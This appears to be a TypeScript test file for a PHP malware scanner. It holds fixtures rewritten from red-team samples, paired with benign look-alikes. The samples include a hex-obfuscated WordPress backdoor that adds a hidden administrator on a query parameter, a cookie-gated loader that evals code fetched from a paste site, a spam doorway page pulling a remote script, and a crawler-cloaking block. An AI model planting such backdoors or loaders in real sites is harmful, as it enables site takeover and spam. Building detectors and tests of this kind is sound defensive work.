import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 46: the misses of its fair samples (bench/redteam/README-corpus-s46.md), each written again by us, with the
// look-alikes that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

/** Every other letter of a text written as a hex escape, as PHP obfuscators of the kind do in double-quoted strings. */
const esc = (t: string) => [...t].map((c, i) => (/[A-Za-z_ ]/.test(c) && i % 2 === 0 ? `\\x${c.charCodeAt(0).toString(16)}` : c)).join('');
const LARAVEL_FRONT = `<?php

use Illuminate\\Http\\Request;

define('LARAVEL_START', microtime(true));

if (file_exists($maintenance = __DIR__.'/../storage/framework/maintenance.php')) {
    require $maintenance;
}

require __DIR__.'/../vendor/autoload.php';

(require_once __DIR__.'/../bootstrap/app.php')
    ->handleRequest(Request::capture());
`;
const GOOGLE_CHECKS = `<?php
function fromGoogleName() {
    $names = ['Googlebot', 'Googlebot-Image', 'AdsBot-Google', 'Storebot-Google'];
    foreach ($names as $n) if (stripos($_SERVER['HTTP_USER_AGENT'] ?? '', $n) !== false) return true;
    return false;
}
function fromGoogleHost() {
    $h = @gethostbyaddr($_SERVER['REMOTE_ADDR']);
    return $h && (str_ends_with($h, '.googlebot.com') || str_ends_with($h, '.google.com'));
}
function fromGoogleRange() {
    foreach (['66.249.64.0/19', '64.233.160.0/19'] as $r) {
        [$net, $bits] = explode('/', $r);
        $m = -1 << (32 - $bits);
        if ((ip2long($_SERVER['REMOTE_ADDR']) & $m) === (ip2long($net) & $m)) return true;
    }
    return false;
}
`;

const PAGES: [string, string, string][] = [
  [
    'a script loading WordPress that makes an administrator of its own by SQL whose words are hex escapes, on a query parameter (H59)',
    '/srv/www/wp-includes/class.wp.php',
    `<?php error_reporting(0); require $_SERVER["${esc('DOCUMENT_ROOT')}"] . "/${esc('wp-load')}.php";
$p = $wpdb->get_blog_prefix();
$cap = "${esc('a:1:{s:13:')}\\"administrator\\";b:1;}";
if (isset($_GET["${esc('mk')}"])) {
  $wpdb->query("${esc('INSERT INTO')} $wpdb->users (\`ID\`, \`user_login\`, \`user_pass\`) ${esc('VALUES')} (424242, 'sys', '\\$P\\$Bq0abcdefghij')");
  $wpdb->query("${esc('INSERT INTO')} $wpdb->usermeta (\`user_id\`, \`meta_key\`, \`meta_value\`) ${esc('VALUES')} (424242, '{$p}capabilities', '{$cap}')");
}
if (isset($_GET["rm"])) { $wpdb->query("DELETE FROM $wpdb->users WHERE ID = 424242"); }
`,
  ],
  [
    'the same written plainly, the table named $wpdb->users (H59)',
    '/srv/www/wp-content/uploads/u.php',
    `<?php
require $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';
if (!empty($_GET['add'])) {
  $wpdb->query("INSERT INTO {$wpdb->users} (user_login, user_pass) VALUES ('backup', '" . md5('x') . "')");
  $id = $wpdb->insert_id;
  $wpdb->query("INSERT INTO {$wpdb->usermeta} (user_id, meta_key, meta_value) VALUES ($id, '{$wpdb->prefix}capabilities', 'a:1:{s:13:\\"administrator\\";b:1;}')");
}
`,
  ],
  [
    'a doorway page: a remote script handed the page\'s phrase for visitors who are not crawlers, spam text for crawlers (H60)',
    '/srv/www/core/cheap-pills-online.12345_678.php',
    `<?php
  include 'bot_or_not.php';
  if (empty($is_bot)) {
    echo '<script type="text/javascript">var kw = "cheap pills online fast";</script>
    <script type="text/javascript" src="http://example.net/core/go.min.js"></script>';
  }
?>
<html><head><title>Cheap pills online fast *** best prices</title></head>
<body><h1>Cheap pills online fast</h1><p>cheap pills online, pills fast, online pills ...</p></body></html>
`,
  ],
  [
    'a loader behind a cookie login running text from a paste site\'s raw view with eval(\'?>\' . ..) (H62)',
    '/srv/www/jm.php',
    `<?php
function signed_in() { return isset($_COOKIE['sid']) && $_COOKIE['sid'] === 'k9'; }
if (signed_in()) {
  function pull($u) {
    if (function_exists('curl_exec')) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($c); curl_close($c); return $d; }
    return file_get_contents($u);
  }
  $code = pull('https://pastee.dev/r/Ab12Cd34');
  eval('?>' . $code);
} elseif (isset($_POST['pw']) && md5($_POST['pw']) === '0cc175b9c0f1b6a831c399e269772661') {
  setcookie('sid', 'k9', time() + 3600, '/');
}
?><form method="post"><input type="password" name="pw"></form>
`,
  ],
  [
    'a Laravel front file with a block put first showing Google, checked three ways, a fixed local page (H62)',
    '/srv/www/public/index.php',
    `${GOOGLE_CHECKS}
if (fromGoogleName() || fromGoogleHost() || fromGoogleRange()) {
    header('Content-Type: text/html; charset=UTF-8');
    readfile(__DIR__ . '/terms.html');
    exit;
}
?>
${LARAVEL_FRONT}`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'a double-quoted text that interpolates, with a hex escape of a letter',
    '/srv/www/hello.php',
    `<?php $name = $_GET['n'] ?? 'you'; echo "\\x48ello, " . htmlspecialchars($name) . "! \\x24 is a dollar, {$name}\\n";`,
  ],
  [
    'a migration tool writing users by SQL behind WordPress\'s own capability check',
    '/srv/www/wp-content/plugins/mover/import.php',
    `<?php
require dirname(__FILE__) . '/../../../wp-load.php';
if (!current_user_can('manage_options')) wp_die('no');
if (isset($_POST['row'])) {
  $wpdb->query($wpdb->prepare("INSERT INTO {$wpdb->users} (user_login, user_email) VALUES (%s, %s)", $_POST['row']['login'], $_POST['row']['email']));
  $wpdb->query($wpdb->prepare("INSERT INTO {$wpdb->usermeta} (user_id, meta_key, meta_value) VALUES (%d, %s, %s)", $wpdb->insert_id, $wpdb->prefix . 'capabilities', 'a:1:{s:13:"administrator";b:1;}'));
}
`,
  ],
  [
    'a page that loads its analytics for visitors who are not crawlers, handed an id',
    '/srv/www/footer.php',
    `<?php
$is_bot = preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'] ?? '');
if (!$is_bot) {
  echo '<script>var gaid = "G-ABC123XYZ";</script><script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC123XYZ"></script>';
}
`,
  ],
  [
    'a page showing a paste site\'s raw text, escaped, not run',
    '/srv/www/notes.php',
    `<?php
$t = file_get_contents('https://pastee.dev/r/Ab12Cd34');
echo '<pre>' . htmlspecialchars((string) $t) . '</pre>';
`,
  ],
  [
    'a Laravel front file that lets Google\'s checked crawlers past its rate limit',
    '/srv/www/public/index.php',
    `${GOOGLE_CHECKS}
if (fromGoogleName() && (fromGoogleHost() || fromGoogleRange())) {
    define('SKIP_THROTTLE', true);
}
?>
${LARAVEL_FRONT}`,
  ],
  [
    'a prerender for Google of the page asked for, kept in snapshots by its path',
    '/srv/www/public/index.php',
    `${GOOGLE_CHECKS}
if (fromGoogleName() && fromGoogleHost()) {
    $snap = __DIR__ . '/snapshots/' . md5($_SERVER['REQUEST_URI']) . '.html';
    if (is_file($snap)) { readfile($snap); exit; }
}
?>
${LARAVEL_FRONT}`,
  ],
];

describe('scan: session 46 samples, the misses written again', () => {
  for (const [name, path, src] of PAGES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every page', () => assert.equal(PAGES.length, 5));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 6));
});
